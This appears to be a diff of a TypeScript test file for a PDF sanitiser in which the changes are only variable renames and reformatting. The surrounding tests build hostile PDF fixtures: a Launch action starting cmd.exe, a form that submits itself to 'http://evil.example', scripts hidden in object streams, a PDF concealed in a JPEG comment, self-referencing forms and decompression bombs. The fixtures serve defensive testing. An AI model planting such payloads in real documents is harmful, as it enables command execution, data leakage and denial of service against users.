@@ -58,8 +58,18 @@ describe('a PDF as a proof', () => {
     expect(copy.getPageCount()).toBe(pages);
     expect(copy.catalog.keys().map(String).sort()).toEqual(['/Pages', '/Type']);
     for (const page of copy.getPages()) {
-      const allowed = ['Type', 'Parent', 'MediaBox', 'CropBox', 'Rotate', 'Resources', 'Contents', 'Group', 'Annots'];
-      expect(allowed.map((key) => `/${key}`)).toEqual(expect.arrayContaining(page.node.keys().map(String)));
+      const allowedKeys = [
+        'Type',
+        'Parent',
+        'MediaBox',
+        'CropBox',
+        'Rotate',
+        'Resources',
+        'Contents',
+        'Group',
+        'Annots',
+      ];
+      expect(allowedKeys.map((key) => `/${key}`)).toEqual(expect.arrayContaining(page.node.keys().map(String)));
       expect(page.node.lookup(PDFName.of('Contents'))).toBeDefined();
     }
     expect(bytes.includes(mark)).toBe(false);
@@ -67,7 +77,7 @@ describe('a PDF as a proof', () => {
 
   const form = (number: number, content: string, child = '') =>
     `${number} 0 obj ${streamOf(content, `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << ${child} >> >>`)} endobj`;
-  const nested = (levels: number, times: number) =>
+  const nestedForms = (levels: number, times: number) =>
     pdfOf({
       page: '/Resources << /XObject << /F 10 0 R >> >>',
       content: streamOf('/F Do'),
@@ -77,8 +87,8 @@ describe('a PDF as a proof', () => {
     });
 
   it.each([
-    ['forms that draw each other a billion times', nested(10, 10)],
-    ['a chain of forms without an end', nested(30, 1)],
+    ['forms that draw each other a billion times', nestedForms(10, 10)],
+    ['a chain of forms without an end', nestedForms(30, 1)],
     [
       'a form that draws itself',
       pdfOf({
@@ -100,7 +110,7 @@ describe('a PDF as a proof', () => {
   });
 
   it('may draw a form with others in it many times', async () => {
-    expect((await outcomeOf(nested(4, 8))).contentType).toBe('application/pdf');
+    expect((await outcomeOf(nestedForms(4, 8))).contentType).toBe('application/pdf');
   });
 
   const jpegOf = (width: number, height: number) => {
@@ -134,8 +144,8 @@ describe('a PDF as a proof', () => {
     const copy = await PDFDocument.load(bytes);
     const stamp = copy.getPage(0).node.Annots()?.lookup(0, PDFDict);
     expect(stamp?.lookup(PDFName.of('Subtype'))).toBe(PDFName.of('Stamp'));
-    const shown = stamp?.lookup(PDFName.of('AP'), PDFDict).lookup(PDFName.of('N'));
-    expect(shown).toBeInstanceOf(PDFRawStream);
+    const appearance = stamp?.lookup(PDFName.of('AP'), PDFDict).lookup(PDFName.of('N'));
+    expect(appearance).toBeInstanceOf(PDFRawStream);
     expect(stamp?.keys().map(String).sort()).toEqual(['/AP', '/F', '/Rect', '/Subtype', '/Type']);
   });
 
@@ -168,7 +178,7 @@ describe('a PDF as a proof', () => {
     },
   );
 
-  const packed = (objects: string, dictionary = '/Filter /FlateDecode') =>
+  const compressedObjects = (objects: string, dictionary = '/Filter /FlateDecode') =>
     streamOf(deflateSync(latin1(objects)), `/Type /ObjStm /N 1 /First 4 ${dictionary}`);
   const ascii85 = (bytes: Buffer) => {
     const groups = Array.from({ length: Math.ceil(bytes.length / 4) }, (_, index) => {
@@ -191,7 +201,7 @@ describe('a PDF as a proof', () => {
     ['a script when a page opens', { page: `/AA << /O ${action} >>` }],
     ['a program to start', { page: '/AA << /O << /S /Launch /F (cmd.exe) >> >>' }],
     ['a form that sends itself', { catalog: '/AA << /WC << /S /SubmitForm /F (http://evil.example) >> >>' }],
-    ['a script in an object stream', { objects: [`9 0 obj ${packed(`8 0 ${action}`)} endobj`] }],
+    ['a script in an object stream', { objects: [`9 0 obj ${compressedObjects(`8 0 ${action}`)} endobj`] }],
     [
       'a script in an object stream written as text',
       {
@@ -216,7 +226,7 @@ describe('a PDF as a proof', () => {
     ],
     [
       'an object stream within an object stream',
-      { objects: [`9 0 obj ${packed(`8 0 ${packed('7 0 <<>>')}`)} endobj`] },
+      { objects: [`9 0 obj ${compressedObjects(`8 0 ${compressedObjects('7 0 <<>>')}`)} endobj`] },
     ],
   ])('is taken with %s', async (_, parts) => {
     expect(await outcomeOf(pdfOf(parts))).toMatchObject({ contentType: 'application/pdf' });
@@ -246,9 +256,9 @@ describe('a PDF as a proof', () => {
 
   it('is gone from an image that hides it', async () => {
     const photo = fixture('photo-plain.jpg');
-    const hidden = pdfOf();
-    const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), hidden]);
-    comment.writeUInt16BE(hidden.length + 2, 2);
+    const hiddenPdf = pdfOf();
+    const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), hiddenPdf]);
+    comment.writeUInt16BE(hiddenPdf.length + 2, 2);
     const { contentType, bytes } = await outcomeOf(Buffer.concat([photo.subarray(0, 2), comment, photo.subarray(2)]));
     expect(contentType).toBe('image/jpeg');
     expect(bytes.includes('%PDF')).toBe(false);
@@ -261,14 +271,14 @@ describe('a PDF as a proof', () => {
     ['a page that inflates to too much', pdfOf({ content: streamOf(bomb, '/Filter /FlateDecode') })],
     [
       'objects that inflate to too much',
-      pdfOf({ objects: [`9 0 obj ${packed(`8 0 ${' '.repeat(17 * 1024 * 1024)}`)} endobj`] }),
+      pdfOf({ objects: [`9 0 obj ${compressedObjects(`8 0 ${' '.repeat(17 * 1024 * 1024)}`)} endobj`] }),
     ],
     [
       'many object streams that inflate to too much together',
       pdfOf({
         objects: Array.from(
           { length: 17 },
-          (_, index) => `${90 + index} 0 obj ${packed(`8 0 ${' '.repeat(1024 * 1024)}`)} endobj`,
+          (_, index) => `${90 + index} 0 obj ${compressedObjects(`8 0 ${' '.repeat(1024 * 1024)}`)} endobj`,
         ),
       }),
     ],
